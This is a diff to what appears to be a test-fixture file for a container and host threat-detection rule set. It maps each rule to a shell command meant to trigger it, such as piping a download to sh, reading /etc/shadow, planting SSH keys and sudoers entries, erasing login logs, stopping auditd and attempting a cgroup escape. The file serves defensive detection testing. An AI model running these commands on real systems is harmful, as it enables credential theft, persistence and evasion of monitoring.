@@ -25,12 +25,13 @@ STAND_INS = (
 """Names under which the container's image has a program that does nothing."""
 
 SERVERS = ("/usr/sbin/nginx", "/usr/sbin/postgres", "/usr/bin/java")
-"""Names under which the image has busybox, which plays a server: called as ``sh``, it forks and runs what it gets."""
+"""Names under which the image has a program that forks and runs what it is told, as an attacked server does."""
 
 IN_A_CONTAINER = {
-    "shell_from_web_server": "/opt/runner proc-fd /usr/sbin/nginx sh -c '/bin/sh -c true; true'",
-    "shell_from_database_server": "/opt/runner proc-fd /usr/sbin/postgres sh -c '/bin/sh -c true; true'",
-    "shell_from_java_program": "/opt/runner proc-fd /usr/bin/java sh -c '/bin/sh -c true; true'",
+    "shell_from_web_server": "/usr/sbin/nginx /bin/sh -c true",
+    "shell_from_database_server": "/usr/sbin/postgres /bin/sh -c true",
+    "shell_from_java_program": "/usr/bin/java /bin/sh -c true",
+    "interactive_shell_in_container": "/opt/terminal /bin/sh",
     "download_piped_to_interpreter": "/bin/sh -c '/usr/bin/curl -s http://127.0.0.1:1/x | sh'",
     "decoded_text_run_by_shell": "/bin/sh -c 'echo dHJ1ZQo= | base64 -d | sh'",
     "program_run_from_shared_memory": "/bin/cp /bin/busybox /dev/shm/tool; /dev/shm/tool true",
@@ -58,8 +59,9 @@ IN_A_CONTAINER = {
     "module_autoload_written": "/bin/mkdir -p /etc/modules-load.d; echo > /etc/modules-load.d/x.conf",
     "persistence_after_server_shell": """
         /bin/mkdir -p /root/.ssh
-        /opt/runner proc-fd /usr/sbin/nginx sh -c '/bin/sh -c "echo > /root/.ssh/authorized_keys"; true'
+        /usr/sbin/nginx /bin/sh -c 'echo > /root/.ssh/authorized_keys'
     """,
+    "startup_file_written": "/bin/mkdir -p /etc/profile.d; echo > /etc/profile.d/x.sh",
     "container_escape_file_written": "/bin/mkdir -p /tmp/cgroup; echo > /tmp/cgroup/release_agent",
     "host_disk_mounted_in_container": "/bin/mount /dev/sda1 /mnt",
     "host_namespace_entered_from_container": "/usr/bin/nsenter -t 1 -m true",
@@ -67,15 +69,15 @@ IN_A_CONTAINER = {
     "user_namespace_made_in_container": "/usr/bin/capsh --print",
     "setuid_bit_set": "/bin/cp /bin/busybox ./tool; /bin/chmod u+s ./tool",
     "sudoers_written": "/bin/mkdir -p /etc/sudoers.d; echo > /etc/sudoers.d/x",
-    "program_run_from_memory": "/opt/runner memfd /opt/status7 innocent",
-    "deleted_program_run": "/opt/runner deleted /opt/status7 gone",
+    "program_run_from_memory": "/opt/runner memfd /opt/stand_in innocent",
+    "deleted_program_run": "/opt/runner deleted /opt/stand_in gone",
     "hidden_program_run": "/bin/cp /bin/busybox ./.hidden; ./.hidden true",
     "log_erased": "echo > /var/log/wtmp; /bin/rm -f /var/log/wtmp",
     "shell_history_disabled": "/bin/sh -c 'unset HISTFILE; true'",
     "system_file_time_changed": "echo > /etc/planted; /bin/touch -t 202001010000 /etc/planted",
     "security_service_stopped": "/usr/bin/systemctl stop auditd",
     "host_protection_disabled": "/usr/sbin/nft flush ruleset",
-    "kernel_thread_name_forged": "/opt/runner proc-fd /opt/status7 '[kworker/0:1]'",
+    "kernel_thread_name_forged": "/opt/runner proc-fd /opt/stand_in '[kworker/0:1]'",
     "program_run_by_dynamic_loader": "/lib64/ld-linux-x86-64.so.2 /opt/dynamic",
     "shadow_file_read": "/bin/cat /etc/shadow",
     "ssh_private_key_read": "/bin/mkdir -p .ssh; echo > .ssh/id_rsa; /bin/cat .ssh/id_rsa",
@@ -142,9 +144,6 @@ ON_THE_HOST = {
     "log_erased": "/usr/bin/truncate -s 0 /var/log/wtmp",
     "process_environment_read": "/usr/bin/cat /proc/self/environ",
     "program_run_from_shared_memory": "/usr/bin/cp /usr/bin/true /dev/shm/tool; /dev/shm/tool",
-    "program_run_from_memory": "$PROGRAMS/runner memfd $PROGRAMS/status7 innocent",
+    "program_run_from_memory": "$PROGRAMS/runner memfd $PROGRAMS/stand_in innocent",
 }
 """Rule to script for the host's shell, as root; ``/etc``, ``/root``, ``/var/log``, ``/dev/shm`` are private copies."""
-
-WITH_A_TERMINAL = "interactive_shell_in_container"
-"""The one rule whose act is no script: somebody at a terminal."""
